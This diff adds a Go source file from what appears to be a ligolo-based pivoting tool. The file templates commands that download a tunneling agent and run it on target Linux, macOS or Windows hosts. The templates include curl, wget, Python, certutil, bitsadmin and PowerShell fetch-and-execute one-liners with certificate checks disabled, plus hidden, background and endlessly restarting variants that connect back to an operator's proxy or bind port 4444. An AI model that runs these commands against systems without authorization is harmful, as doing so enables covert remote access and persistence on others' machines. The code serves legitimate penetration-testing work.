@@ -0,0 +1,421 @@
+package core
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"text/template"
+)
+
+// Agent run styles shipped in the default templates.
+const (
+	AgentRunForeground = "foreground"
+	AgentRunBackground = "background"
+	AgentRunRetry      = "retry" // restart the agent in a loop after it exits
+)
+
+const (
+	defaultAgentArch       = "amd64"
+	defaultAgentRetryDelay = 10
+)
+
+// DefaultAgentBindAddr is the listen address suggested for bind-mode agents.
+const DefaultAgentBindAddr = "0.0.0.0:4444"
+
+// AgentOSTemplates are the text/template snippets for one target OS. A
+// command is the selected download template (if any) and run template joined
+// with Join. Templates see the fields of AgentTemplateData.
+type AgentOSTemplates struct {
+	Download map[string]string `json:"download,omitempty"`
+	Run      map[string]string `json:"run,omitempty"`
+	Join     string            `json:"join,omitempty"`
+}
+
+// AgentTemplates maps a target OS (linux, windows, darwin) to its templates.
+type AgentTemplates map[string]AgentOSTemplates
+
+// AgentTemplateData is the data available to agent command templates.
+type AgentTemplateData struct {
+	OS         string
+	Arch       string
+	Binary     string // agent file name on the target
+	URL        string // download URL on our file server
+	HTTPS      bool   // the file server uses TLS, usually self-signed
+	Connect    string // proxy address the agent connects back to
+	Bind       string // listen address in bind mode
+	TLSFlag    string // -accept-fingerprint FP or -ignore-cert
+	Args       string // full agent arguments for the selected mode
+	RetryDelay int    // seconds between restarts in retry mode
+}
+
+// AgentCommandOptions selects how an agent command is generated.
+type AgentCommandOptions struct {
+	OS         string // linux, windows or darwin
+	Arch       string // defaults to amd64
+	Download   string // download template; empty runs a binary already on the target
+	Run        string // run template; defaults to foreground (background on Windows)
+	Bind       string // listen address for a bind-mode agent; empty connects back
+	Source     string // file name on the file server; defaults to the published agent
+	RetryDelay int
+}
+
+// AgentCommand is a generated agent command and the choices behind it.
+type AgentCommand struct {
+	Command  string `json:"command"`
+	OS       string `json:"os"`
+	Arch     string `json:"arch"`
+	Download string `json:"download,omitempty"`
+	Run      string `json:"run,omitempty"`
+	Mode     string `json:"mode"`
+	URL      string `json:"url,omitempty"`
+	// ProxyCommand is the ligolo console command that reaches a bind-mode agent.
+	ProxyCommand string `json:"proxy_command,omitempty"`
+}
+
+// pythonDownload fetches the agent with urllib, skipping certificate checks
+// for an HTTPS file server.
+const pythonDownload = `python3 -c 'import sys, urllib.request as u{{if .HTTPS}}, ssl; ssl._create_default_https_context = ssl._create_unverified_context{{end}}; u.urlretrieve(sys.argv[1], sys.argv[2])' {{sh .URL}} {{sh .Binary}} && chmod +x {{sh .Binary}}`
+
+// DefaultAgentTemplates returns the built-in templates. Windows commands are
+// written for cmd.exe. certutil and bitsadmin can't skip certificate checks,
+// so with an HTTPS file server they need a certificate the target trusts.
+// Values are quoted with the sh, ps and cmd template funcs.
+func DefaultAgentTemplates() AgentTemplates {
+	unixRun := map[string]string{
+		AgentRunForeground: `./{{sh .Binary}} {{.Args}}`,
+		AgentRunBackground: `nohup ./{{sh .Binary}} {{.Args}} >/dev/null 2>&1 &`,
+		AgentRunRetry:      `nohup sh -c {{sh (printf "while true; do ./%s %s; sleep %d; done" (sh .Binary) .Args .RetryDelay)}} >/dev/null 2>&1 &`,
+	}
+	darwinRun := map[string]string{}
+	for k, v := range unixRun {
+		darwinRun[k] = v
+	}
+
+	return AgentTemplates{
+		"linux": {
+			Download: map[string]string{
+				"curl":   `curl -fsSL {{if .HTTPS}}-k {{end}}-o {{sh .Binary}} {{sh .URL}} && chmod +x {{sh .Binary}}`,
+				"wget":   `wget -q {{if .HTTPS}}--no-check-certificate {{end}}-O {{sh .Binary}} {{sh .URL}} && chmod +x {{sh .Binary}}`,
+				"python": pythonDownload,
+			},
+			Run:  unixRun,
+			Join: " && ",
+		},
+		"darwin": {
+			Download: map[string]string{
+				"curl":   `curl -fsSL {{if .HTTPS}}-k {{end}}-o {{sh .Binary}} {{sh .URL}} && chmod +x {{sh .Binary}}`,
+				"python": pythonDownload,
+			},
+			Run:  darwinRun,
+			Join: " && ",
+		},
+		"windows": {
+			Download: map[string]string{
+				"certutil":  `certutil -urlcache -split -f {{cmd .URL}} {{cmd .Binary}}`,
+				"iwr":       `powershell -Command "{{if .HTTPS}}` + psSkipVerify + `{{end}}Invoke-WebRequest -UseBasicParsing -Uri {{ps .URL}} -OutFile {{ps .Binary}}"`,
+				"bitsadmin": `bitsadmin /transfer potg /download /priority foreground {{cmd .URL}} "%CD%\{{.Binary}}"`,
+			},
+			Run: map[string]string{
+				AgentRunForeground: `{{cmd (print ".\\" .Binary)}} {{.Args}}`,
+				AgentRunBackground: `powershell -Command "Start-Process -WindowStyle Hidden -FilePath {{ps (print ".\\" .Binary)}} -ArgumentList {{ps .Args}}"`,
+				AgentRunRetry:      `start /b powershell -WindowStyle Hidden -Command "while ($true) { & {{ps (print ".\\" .Binary)}} {{.Args}}; Start-Sleep {{.RetryDelay}} }"`,
+			},
+			Join: " && ",
+		},
+	}
+}
+
+// AgentTemplatesPath returns the user's template file, next to the global
+// config file. Templates are shared by all workspaces.
+func AgentTemplatesPath() (string, error) {
+	dir, err := ConfigDir()
+	if err != nil {
+		return "", err
+	}
+	return filepath.Join(dir, "agent_templates.json"), nil
+}
+
+// LoadAgentTemplates returns the default templates overlaid with the user's
+// template file. Templates set to an empty string in the file are removed.
+func LoadAgentTemplates() (AgentTemplates, error) {
+	tmpl := DefaultAgentTemplates()
+	path, err := AgentTemplatesPath()
+	if err != nil {
+		return tmpl, err
+	}
+	data, err := os.ReadFile(path)
+	if err != nil {
+		if os.IsNotExist(err) {
+			return tmpl, nil
+		}
+		return tmpl, err
+	}
+	var user AgentTemplates
+	if err := json.Unmarshal(data, &user); err != nil {
+		return tmpl, fmt.Errorf("%s: %w", path, err)
+	}
+	return mergeAgentTemplates(tmpl, user), nil
+}
+
+func mergeAgentTemplates(base, over AgentTemplates) AgentTemplates {
+	for osName, o := range over {
+		osName = strings.ToLower(strings.TrimSpace(osName))
+		b := base[osName]
+		b.Download = mergeTemplateSet(b.Download, o.Download)
+		b.Run = mergeTemplateSet(b.Run, o.Run)
+		if o.Join != "" {
+			b.Join = o.Join
+		}
+		base[osName] = b
+	}
+	return base
+}
+
+func mergeTemplateSet(base, over map[string]string) map[string]string {
+	if base == nil {
+		base = map[string]string{}
+	}
+	for name, text := range over {
+		name = strings.ToLower(strings.TrimSpace(name))
+		if strings.TrimSpace(text) == "" {
+			delete(base, name)
+		} else {
+			base[name] = text
+		}
+	}
+	return base
+}
+
+// ValidateAgentTemplates renders every template against sample data and
+// reports the first error, so typos in field names are caught on save.
+func ValidateAgentTemplates(tmpl AgentTemplates) error {
+	sample := AgentTemplateData{
+		OS: "linux", Arch: defaultAgentArch, Binary: defaultAgentBinary,
+		URL: "http://127.0.0.1:8000/agent", Connect: "127.0.0.1:11601",
+		TLSFlag: "-ignore-cert", Args: "-connect 127.0.0.1:11601 -ignore-cert",
+		RetryDelay: defaultAgentRetryDelay,
+	}
+	for osName, t := range tmpl {
+		for kind, set := range map[string]map[string]string{"download": t.Download, "run": t.Run} {
+			for name, text := range set {
+				if strings.TrimSpace(text) == "" {
+					continue
+				}
+				if _, err := renderAgentTemplate(name, text, sample); err != nil {
+					return fmt.Errorf("%s %s %w", osName, kind, err)
+				}
+			}
+		}
+	}
+	return nil
+}
+
+// SaveAgentTemplates validates and writes the user's template file.
+func SaveAgentTemplates(tmpl AgentTemplates) error {
+	if err := ValidateAgentTemplates(tmpl); err != nil {
+		return err
+	}
+	path, err := AgentTemplatesPath()
+	if err != nil {
+		return err
+	}
+	data, err := json.MarshalIndent(tmpl, "", "  ")
+	if err != nil {
+		return err
+	}
+	return writeFileAtomic(path, data, 0o600)
+}
+
+// GenerateAgentCommand renders the agent command for the proxy described by
+// cfg using the given templates.
+func GenerateAgentCommand(cfg Config, tmpl AgentTemplates, opts AgentCommandOptions) (AgentCommand, error) {
+	cfg, err := ResolveCallbackConfig(SanitizeConfig(cfg))
+	if err != nil {
+		return AgentCommand{}, err
+	}
+
+	osName := strings.ToLower(strings.TrimSpace(opts.OS))
+	arch := strings.ToLower(strings.TrimSpace(opts.Arch))
+	if arch == "" {
+		arch = defaultAgentArch
+	}
+	platform, err := ParseLigoloPlatform(osName + "/" + arch)
+	if err != nil {
+		return AgentCommand{}, err
+	}
+	t, ok := tmpl[osName]
+	if !ok {
+		return AgentCommand{}, fmt.Errorf("no agent templates for %s", osName)
+	}
+
+	run := strings.ToLower(strings.TrimSpace(opts.Run))
+	if run == "" {
+		run = AgentRunForeground
+		if osName == "windows" {
+			run = AgentRunBackground
+		}
+	}
+	runText, ok := t.Run[run]
+	if !ok {
+		return AgentCommand{}, fmt.Errorf("unknown %s run template %q", osName, run)
+	}
+	download := strings.ToLower(strings.TrimSpace(opts.Download))
+	var downloadText string
+	if download != "" {
+		if downloadText, ok = t.Download[download]; !ok {
+			return AgentCommand{}, fmt.Errorf("unknown %s download template %q", osName, download)
+		}
+	}
+
+	binary := cfg.AgentBinary
+	if osName == "windows" && !strings.HasSuffix(strings.ToLower(binary), ".exe") {
+		binary += ".exe"
+	}
+	source := opts.Source
+	if source == "" {
+		if name, ok := publishedAgentName(cfg, platform); ok {
+			source = name
+		} else {
+			source = platform.AgentFilename()
+		}
+	}
+	retryDelay := opts.RetryDelay
+	if retryDelay <= 0 {
+		retryDelay = defaultAgentRetryDelay
+	}
+
+	agentURL := fileServerPathURL(cfg, source)
+	if cfg.FileLinksOnly && downloadText != "" {
+		// Plain paths are not served in links-only mode.
+		link, err := SharedFileLink(cfg, source)
+		if err != nil {
+			return AgentCommand{}, fmt.Errorf("download link for %s: %w", source, err)
+		}
+		agentURL = FileLinkURL(cfg, link)
+	}
+
+	data := AgentTemplateData{
+		OS:         osName,
+		Arch:       arch,
+		Binary:     binary,
+		URL:        agentURL,
+		HTTPS:      cfg.FileTLS,
+		Connect:    fmt.Sprintf("%s:%d", cfg.PublicIP, cfg.ProxyPort),
+		TLSFlag:    agentTLSFlag(cfg),
+		RetryDelay: retryDelay,
+	}
+	out := AgentCommand{OS: osName, Arch: arch, Download: download, Run: run, Mode: "connect"}
+	if opts.Bind != "" {
+		// The proxy dials a bind-mode agent, so there is no fingerprint to pin.
+		data.Bind = strings.TrimSpace(opts.Bind)
+		data.Args = "-bind " + data.Bind
+		out.Mode = "bind"
+		out.ProxyCommand = "connect_agent --ip <target>:" + bindPort(data.Bind)
+	} else {
+		data.Args = "-connect " + data.Connect + " " + data.TLSFlag
+	}
+
+	parts := []string{}
+	if downloadText != "" {
+		s, err := renderAgentTemplate(download, downloadText, data)
+		if err != nil {
+			return AgentCommand{}, err
+		}
+		parts = append(parts, s)
+		out.URL = data.URL
+	}
+	s, err := renderAgentTemplate(run, runText, data)
+	if err != nil {
+		return AgentCommand{}, err
+	}
+	out.Command = strings.Join(append(parts, s), t.Join)
+	return out, nil
+}
+
+// PublishedAgentCommands returns a download-and-run command for every agent
+// build published into the file server directory. opts.OS, Arch and Source
+// are taken from each published agent; an empty opts.Download picks the
+// OS's preferred download template.
+func PublishedAgentCommands(cfg Config, tmpl AgentTemplates, opts AgentCommandOptions) ([]AgentCommand, error) {
+	cmds := []AgentCommand{}
+	for _, a := range PublishedAgents(cfg) {
+		p, err := ParseLigoloPlatform(a.Platform)
+		if err != nil {
+			continue
+		}
+		o := opts
+		o.OS, o.Arch, o.Source = p.OS, p.Arch, a.Name
+		if o.Download == "" {
+			o.Download = preferredAgentDownload(tmpl[p.OS])
+		}
+		cmd, err := GenerateAgentCommand(cfg, tmpl, o)
+		if err != nil {
+			return cmds, fmt.Errorf("%s: %w", a.Platform, err)
+		}
+		cmds = append(cmds, cmd)
+	}
+	return cmds, nil
+}
+
+// preferredAgentDownload picks curl or iwr when available, else the first
+// download template by name.
+func preferredAgentDownload(t AgentOSTemplates) string {
+	for _, name := range []string{"curl", "iwr"} {
+		if _, ok := t.Download[name]; ok {
+			return name
+		}
+	}
+	names := make([]string, 0, len(t.Download))
+	for name := range t.Download {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	if len(names) == 0 {
+		return ""
+	}
+	return names[0]
+}
+
+// agentTemplateFuncs quote values for the target shell: sh for POSIX sh, ps
+// for PowerShell inside a double-quoted -Command, cmd for cmd.exe.
+var agentTemplateFuncs = template.FuncMap{
+	"sh":  shellQuote,
+	"ps":  psQuote,
+	"cmd": cmdQuote,
+}
+
+func renderAgentTemplate(name, text string, data AgentTemplateData) (string, error) {
+	t, err := template.New(name).Funcs(agentTemplateFuncs).Parse(text)
+	if err != nil {
+		return "", fmt.Errorf("template %q: %w", name, err)
+	}
+	var b strings.Builder
+	if err := t.Execute(&b, data); err != nil {
+		return "", fmt.Errorf("template %q: %w", name, err)
+	}
+	return strings.TrimSpace(b.String()), nil
+}
+
+func bindPort(addr string) string {
+	if i := strings.LastIndex(addr, ":"); i >= 0 {
+		return addr[i+1:]
+	}
+	return addr
+}
+
+// agentCommand renders a command with the user's templates, falling
+// back to the defaults when the template file can't be read.
+func agentCommand(cfg Config, opts AgentCommandOptions) string {
+	tmpl, err := LoadAgentTemplates()
+	if err != nil {
+		tmpl = DefaultAgentTemplates()
+	}
+	if cmd, err := GenerateAgentCommand(cfg, tmpl, opts); err == nil {
+		return cmd.Command
+	}
+	cmd, _ := GenerateAgentCommand(cfg, DefaultAgentTemplates(), opts)
+	return cmd.Command
+}